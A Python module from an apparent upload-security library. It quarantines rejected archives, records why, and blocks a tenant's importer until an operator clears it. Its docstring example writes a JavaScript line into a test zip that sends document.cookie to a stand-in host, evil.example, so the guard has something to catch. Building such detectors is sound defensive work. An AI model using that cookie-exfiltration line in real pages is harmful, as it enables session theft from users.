"""Quarantine for rejected uploads, and the per-tenant importer block (a kill switch).

:class:`ArchiveGuard` ties inspection to consequences: a tenant whose importer is blocked
is refused at once (``MITIGATE.ARCHIVE.BLOCKED``, "blocked pending security review");
an archive that fails inspection is moved, byte for byte, into the quarantine with a
record of why (:class:`~mitigate.ArchiveQuarantined`), the tenant's importer is blocked
until an operator clears it (:class:`~mitigate.ImporterBlocked`, a security alert), and
the caller gets :class:`~mitigate.guard.errors.ArchiveRejectedError`. Give the gate the
service's store (``ImporterGate(store)``, then ``await guard.acheck(...)``) so a block
survives a restart and holds in every process; without one it lasts as long as the
process.

>>> import io, tempfile, zipfile, pathlib
>>> from mitigate.clock import VirtualClock
>>> work = pathlib.Path(tempfile.mkdtemp())
>>> upload = work / "course.zip"
>>> with zipfile.ZipFile(upload, "w") as z:
...     z.writestr("js/app.js", "fetch('https://evil.example/steal?c=' + document.cookie)")
>>> guard = ArchiveGuard(quarantine=Quarantine(work / "quarantine", clock=VirtualClock()))
>>> try:
...     guard.check(upload, tenant="acme")
... except ArchiveRejectedError as err:
...     print(err.code, err.report.reason)
MITIGATE.ARCHIVE.SCRIPT_NETWORK script_network
>>> upload.exists(), guard.gate.is_blocked("acme")
(False, True)

.. versionadded:: 0.1
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import shutil
import threading
import uuid
from collections.abc import Iterable, Mapping
from dataclasses import asdict, dataclass
from pathlib import Path

from mitigate.clock import Clock, default_clock
from mitigate.durable.migrate import migrate
from mitigate.durable.migrations import Migration
from mitigate.durable.store import Store
from mitigate.errors import ConfigError
from mitigate.guard.archive import ArchiveLimits, InspectionReport, inspect_archive
from mitigate.guard.errors import ArchiveRejectedError, ImporterBlockedError
from mitigate.observe.events import ArchiveQuarantined, ImporterBlocked
from mitigate.observe.observers import Observer, Observers

__all__ = ["GATE_MIGRATIONS", "ArchiveGuard", "ImporterGate", "Quarantine", "QuarantineRecord"]


@dataclass(frozen=True, slots=True)
class QuarantineRecord:
    """One quarantined archive: where it is, what it hashes to, and why."""

    id: str
    tenant: str
    name: str
    path: str
    sha256: str
    size: int
    reason: str
    findings: tuple[tuple[str, str, str], ...]
    at: float


class Quarantine:
    """A directory that holds rejected archives unchanged, each with a JSON record."""

    def __init__(
        self,
        directory: str | Path,
        *,
        clock: Clock | None = None,
        observers: Iterable[Observer] = (),
        target: str = "archive.quarantine",
    ) -> None:
        self.directory = Path(directory)
        self.directory.mkdir(parents=True, exist_ok=True)
        self.clock = clock or default_clock()
        self.observers = observers if isinstance(observers, Observers) else Observers(observers)
        self.target = target

    def hold(
        self, source: str | Path, *, tenant: str, report: InspectionReport, name: str = ""
    ) -> QuarantineRecord:
        """Move ``source`` into quarantine (same bytes, digest recorded) and record why."""
        source = Path(source)
        qid = uuid.uuid4().hex
        dest = self.directory / f"{qid}.zip"
        # Same filesystem: an atomic rename; otherwise a copy, then the upload is removed.
        try:
            os.replace(source, dest)
        except OSError:
            shutil.copyfile(source, dest)
            source.unlink()
        digest = _sha256_file(dest)
        record = QuarantineRecord(
            id=qid,
            tenant=tenant,
            name=name or source.name,
            path=str(dest),
            sha256=digest,
            size=dest.stat().st_size,
            reason=report.reason or "",
            findings=tuple((f.reason.value, f.entry, f.detail) for f in report.findings),
            at=self.clock.wall(),
        )
        tmp = self.directory / f"{qid}.json.tmp"
        tmp.write_text(json.dumps(asdict(record), indent=2))
        os.replace(tmp, self.directory / f"{qid}.json")
        if self.observers:
            first = report.findings[0] if report.findings else None
            self.observers.emit(
                ArchiveQuarantined(
                    target=self.target,
                    at=self.clock.now(),
                    tenant=tenant,
                    archive=record.name,
                    reason=record.reason,
                    entry=first.entry if first else "",
                    sha256=digest,
                )
            )
        return record

    def records(self, tenant: str | None = None) -> list[QuarantineRecord]:
        out = []
        for path in sorted(self.directory.glob("*.json")):
            data = json.loads(path.read_text())
            data["findings"] = tuple(tuple(f) for f in data["findings"])
            record = QuarantineRecord(**data)
            if tenant is None or record.tenant == tenant:
                out.append(record)
        return out


# The gate's table, versioned in its own migration namespace beside mitigate's schema.
GATE_NAMESPACE = "guard"
GATE_MIGRATIONS = (
    Migration(
        version=1,
        name="importer_blocks",
        sqlite=(
            "CREATE TABLE IF NOT EXISTS mitigate_importer_blocks (tenant TEXT PRIMARY KEY,"
            " reason TEXT NOT NULL, blocked_at REAL NOT NULL)",
        ),
        postgres=(
            "CREATE TABLE IF NOT EXISTS mitigate_importer_blocks (tenant TEXT PRIMARY KEY,"
            " reason TEXT NOT NULL, blocked_at DOUBLE PRECISION NOT NULL)",
        ),
    ),
)


class ImporterGate:
    """Which tenants' importers are blocked pending security review.

    With a ``store`` (a mitigate :class:`~mitigate.durable.store.Store`, SQLite or
    PostgreSQL) the blocks live in its ``mitigate_importer_blocks`` table: they survive a
    restart and every process sharing the store sees them. Use the async methods then
    (``ablock``, ``aclear``, ``ais_blocked``, ``ablocked``, ``arequire_open``; the sync
    ones raise :class:`~mitigate.ConfigError`). Without a store the blocks are kept in
    this process only (tests, a single short-lived importer); both method sets work.
    """

    def __init__(
        self,
        store: Store | None = None,
        *,
        clock: Clock | None = None,
        observers: Iterable[Observer] = (),
        target: str = "archive.import",
    ) -> None:
        self.store = store
        self.clock = clock or (store.clock if store is not None else None) or default_clock()
        self.observers = observers if isinstance(observers, Observers) else Observers(observers)
        self.target = target
        self._blocked: dict[str, str] = {}
        self._lock = threading.Lock()
        self._migrated = False

    # -- in process ------------------------------------------------------------------

    def block(self, tenant: str, reason: str) -> None:
        self._in_memory("ablock")
        with self._lock:
            fresh = tenant not in self._blocked
            self._blocked[tenant] = reason
        if fresh:
            self._emit(tenant, reason)

    def clear(self, tenant: str) -> None:
        """An operator reviewed the quarantine: let the tenant import again."""
        self._in_memory("aclear")
        with self._lock:
            self._blocked.pop(tenant, None)

    def is_blocked(self, tenant: str) -> bool:
        self._in_memory("ais_blocked")
        return tenant in self._blocked

    def blocked(self) -> dict[str, str]:
        self._in_memory("ablocked")
        return dict(self._blocked)

    def require_open(self, tenant: str) -> None:
        self._in_memory("arequire_open")
        _require_open(tenant, self._blocked.get(tenant))

    # -- durable (and in process, for one code path) -----------------------------------

    async def ablock(self, tenant: str, reason: str) -> None:
        """Block ``tenant`` (the first reason is kept); an ImporterBlocked event the first time."""
        if self.store is None:
            self.block(tenant, reason)
            return
        await self._ready()
        added = await self.store.execute(
            "INSERT INTO mitigate_importer_blocks (tenant, reason, blocked_at) VALUES (?, ?, ?)"
            " ON CONFLICT (tenant) DO NOTHING",
            (tenant, reason, self.clock.wall()),
        )
        if added:
            self._emit(tenant, reason)

    async def aclear(self, tenant: str) -> None:
        if self.store is None:
            self.clear(tenant)
            return
        await self._ready()
        await self.store.execute("DELETE FROM mitigate_importer_blocks WHERE tenant = ?", (tenant,))

    async def ais_blocked(self, tenant: str) -> bool:
        return await self._reason(tenant) is not None

    async def ablocked(self) -> dict[str, str]:
        if self.store is None:
            return self.blocked()
        await self._ready()
        rows = await self.store.fetch(
            "SELECT tenant, reason FROM mitigate_importer_blocks ORDER BY tenant"
        )
        return {str(tenant): str(reason) for tenant, reason in rows}

    async def arequire_open(self, tenant: str) -> None:
        _require_open(tenant, await self._reason(tenant))

    async def _reason(self, tenant: str) -> str | None:
        if self.store is None:
            return self._blocked.get(tenant)
        await self._ready()
        rows = await self.store.fetch(
            "SELECT reason FROM mitigate_importer_blocks WHERE tenant = ?", (tenant,)
        )
        return str(rows[0][0]) if rows else None

    async def _ready(self) -> None:
        if not self._migrated and self.store is not None:
            await migrate(self.store, GATE_MIGRATIONS, namespace=GATE_NAMESPACE)
            self._migrated = True

    def _in_memory(self, async_name: str) -> None:
        if self.store is not None:
            raise ConfigError(
                self.target,
                "this gate keeps its blocks in the store, which is async",
                hint=f"await gate.{async_name}(...) (and ArchiveGuard.acheck) instead",
            )

    def _emit(self, tenant: str, reason: str) -> None:
        if self.observers:
            self.observers.emit(
                ImporterBlocked(
                    target=self.target, at=self.clock.now(), tenant=tenant, reason=reason
                )
            )


def _require_open(tenant: str, reason: str | None) -> None:
    if reason is not None:
        raise ImporterBlockedError(
            f"tenant {tenant}", f"importer blocked after a quarantined upload ({reason})"
        )


class ArchiveGuard:
    """Inspect uploads per tenant limits; quarantine and block on failure."""

    def __init__(
        self,
        *,
        quarantine: Quarantine,
        gate: ImporterGate | None = None,
        limits: ArchiveLimits | None = None,
        tenant_limits: Mapping[str, ArchiveLimits] | None = None,
        block_on_quarantine: bool = True,
    ) -> None:
        self.quarantine = quarantine
        self.gate = gate or ImporterGate(clock=quarantine.clock, observers=quarantine.observers)
        self.limits = limits or ArchiveLimits()
        self.tenant_limits = dict(tenant_limits or {})
        self.block_on_quarantine = block_on_quarantine

    def limits_for(self, tenant: str) -> ArchiveLimits:
        return self.tenant_limits.get(tenant, self.limits)

    def check(self, path: str | Path, *, tenant: str, name: str = "") -> InspectionReport:
        """Inspect the upload at ``path``; return the report when it is clean.

        Raises ImporterBlockedError before reading anything when the tenant is blocked,
        and ArchiveRejectedError (after quarantining the file) when inspection fails.
        """
        self.gate.require_open(tenant)
        report = inspect_archive(path, self.limits_for(tenant))
        if report.ok:
            return report
        record = self.quarantine.hold(path, tenant=tenant, report=report, name=name)
        if self.block_on_quarantine:
            self.gate.block(tenant, report.reason or "quarantined")
        raise self._rejected(tenant, report, record)

    async def acheck(self, path: str | Path, *, tenant: str, name: str = "") -> InspectionReport:
        """The async twin of :meth:`check`, for a gate kept in the durable store; the
        inspection and the quarantine move run in a worker thread."""
        await self.gate.arequire_open(tenant)
        report = await asyncio.to_thread(inspect_archive, path, self.limits_for(tenant))
        if report.ok:
            return report
        record = await asyncio.to_thread(
            self.quarantine.hold, path, tenant=tenant, report=report, name=name
        )
        if self.block_on_quarantine:
            await self.gate.ablock(tenant, report.reason or "quarantined")
        raise self._rejected(tenant, report, record)

    def _rejected(
        self, tenant: str, report: InspectionReport, record: QuarantineRecord
    ) -> ArchiveRejectedError:
        first = report.findings[0]
        return ArchiveRejectedError(
            f"tenant {tenant}",
            f"{record.name}: {first.reason.value} at {first.entry or 'the archive'!r} "
            f"({first.detail}); quarantined as {record.id}",
            report=report,
            quarantine_id=record.id,
            code=first.reason.code,
        )


def _sha256_file(path: Path) -> str:
    h = hashlib.sha256()
    with open(path, "rb") as f:
        while block := f.read(1 << 20):
            h.update(block)
    return h.hexdigest()
